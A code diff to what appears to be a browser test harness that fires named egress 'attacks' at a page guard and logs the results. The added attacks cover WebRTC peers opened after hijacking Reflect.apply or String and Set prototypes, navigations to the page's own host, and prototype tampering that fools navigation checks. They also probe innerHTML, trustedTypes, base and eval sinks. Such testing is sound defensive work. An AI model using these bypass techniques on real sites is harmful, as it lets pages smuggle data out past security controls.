@@ -152,6 +152,8 @@
       URL.createObjectURL(new Blob([`fetch(${JSON.stringify(to)})`], { type: 'text/javascript' })),
     );
   attacks['worker-fetch'] = (to) => blobWorker(`fetch(${JSON.stringify(to)})`);
+  // As the app starts its own, from a file of its host that turned bad.
+  attacks['worker-started'] = (to) => window.startWorker(`${location.origin}/worker.js`, to);
   attacks['worker-import'] = (to) => blobWorker(`importScripts(${JSON.stringify(`${to}.js`)})`);
   attacks['worker-socket'] = (to) =>
     blobWorker(`new WebSocket(${JSON.stringify(to.replace('http', 'ws'))})`);
@@ -301,6 +303,41 @@
     return callPeer(frame.contentWindow.RTCPeerConnection, to);
   };
 
+  // Replaced means of the language, through which a guard hands out what it guards, or sees another word.
+  attacks['peer-of-apply'] = async (to) => {
+    const [{ apply }, { call }] = [Reflect, Function.prototype];
+    const caught = [];
+    Reflect.apply = (method, ...rest) => (caught.push(method), apply(method, ...rest));
+    Function.prototype.call = function (...words) {
+      caught.push(this);
+      return apply(this, words[0], words.slice(1));
+    };
+    try {
+      document.createElement('b');
+    } finally {
+      Reflect.apply = apply;
+      Function.prototype.call = call;
+    }
+    const native = caught.find((method) => /createElement\b.*native/.test(String(method)));
+    const frame = document.body.appendChild(native.call(document, 'iframe'));
+    await callPeer(frame.contentWindow.RTCPeerConnection, to);
+  };
+  attacks['peer-of-words'] = async (to) => {
+    const { toLowerCase } = String.prototype;
+    const { has } = Set.prototype;
+    String.prototype.toLowerCase = () => 'b';
+    Set.prototype.has = () => false;
+    let frame;
+    try {
+      frame = document.createElement('iframe');
+    } finally {
+      String.prototype.toLowerCase = toLowerCase;
+      Set.prototype.has = has;
+    }
+    document.body.append(frame);
+    await callPeer(frame.contentWindow.RTCPeerConnection, to);
+  };
+
   // Ways that take the page along.
   attacks['go:location'] = (to) => (location.href = to);
   attacks['go:assign'] = (to) => location.assign(to);
@@ -326,7 +363,67 @@
     element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
   };
 
-  const log = [];
+  // To the page's own host, whose log is somebody's too; and ways to change what checks.
+  attacks['own:location'] = (to) => (location.href = to);
+  attacks['own:search'] = (to) => (location.search = new URL(to).search);
+  attacks['own:pathname'] = (to) => (location.pathname = new URL(to).pathname + 'p=13800000000');
+  attacks['own:assign'] = (to) => location.assign(to);
+  attacks['own:replace'] = (to) => location.replace(to);
+  attacks['own:navigate'] = (to) => navigation.navigate(to);
+  attacks['own:navigate-replace'] = (to) => navigation.navigate(to, { history: 'replace' });
+  attacks['own:pushed'] = (to) => {
+    history.pushState(null, '', to);
+    setTimeout(() => location.reload());
+  };
+  attacks['own:replaced'] = (to) => {
+    history.replaceState(null, '', to);
+    setTimeout(() => navigation.reload());
+  };
+  attacks['own:refresh'] = (to) =>
+    attribute('meta', { 'http-equiv': 'refresh', content: `0;url=${to}` }, document.head);
+  attacks['own:link'] = (to) => make('a', { href: to }).click();
+  attacks['own:download'] = (to) => make('a', { href: to, download: 'x' }).click();
+  attacks['own:form'] = (to) => make('form', { action: to, method: 'POST' }).submit();
+  attacks['own:open-self'] = (to) => window.open(to, '_self');
+  attacks['own:service-worker'] = (to) => navigator.serviceWorker.register(to);
+  attacks['own:blob'] = (to) => {
+    const page = new Blob([`<meta http-equiv="refresh" content="0;url=${to}">`], {
+      type: 'text/html',
+    });
+    location.href = URL.createObjectURL(page);
+  };
+  attacks['own:tampered'] = (to) => {
+    const here = location.href;
+    const lies = [
+      [Event.prototype, 'preventDefault', { value: () => undefined }],
+      [Event.prototype, 'cancelable', { get: () => false }],
+      [NavigateEvent.prototype, 'navigationType', { get: () => 'traverse' }],
+      [NavigationDestination.prototype, 'url', { get: () => here }],
+      [String.prototype, 'slice', { value: () => here }],
+      [String.prototype, 'indexOf', { value: () => 0 }],
+      [Reflect, 'apply', { value: () => here }],
+    ].map(([owner, name, lie]) => [owner, name, lie, Object.getOwnPropertyDescriptor(owner, name)]);
+    for (const [owner, name, lie] of lies) {
+      Object.defineProperty(owner, name, { configurable: true, ...lie });
+    }
+    try {
+      location.href = to;
+    } finally {
+      for (const [owner, name, , truth] of lies) Object.defineProperty(owner, name, truth);
+    }
+  };
+
+  // What the policy governs without a request: such an attack fails where the way is closed.
+  attacks['sink:html'] = (to) => (make('div').innerHTML = `<a href="${to}">x</a>`);
+  attacks['sink:policy'] = () => trustedTypes.createPolicy('stranger', {});
+  attacks['sink:base'] = (to) => {
+    make('base', { href: to }, document.head);
+    if (document.baseURI !== to) throw new Error('The base stayed.');
+  };
+  attacks['sink:eval'] = () => (0, eval)('1');
+
+  // A page that was loaded anew goes on with the log of the one before.
+  const log = window.name === '' ? [] : JSON.parse(window.name);
   window.egressAttacks = Object.keys(attacks);
   window.egressLog = log;
   addEventListener('attack', ({ detail: { name, to } }) => {
@@ -337,6 +434,7 @@
       } catch (error) {
         log.push(`${name}: ${error}`);
       }
+      window.name = JSON.stringify(log);
     });
   });
 })();
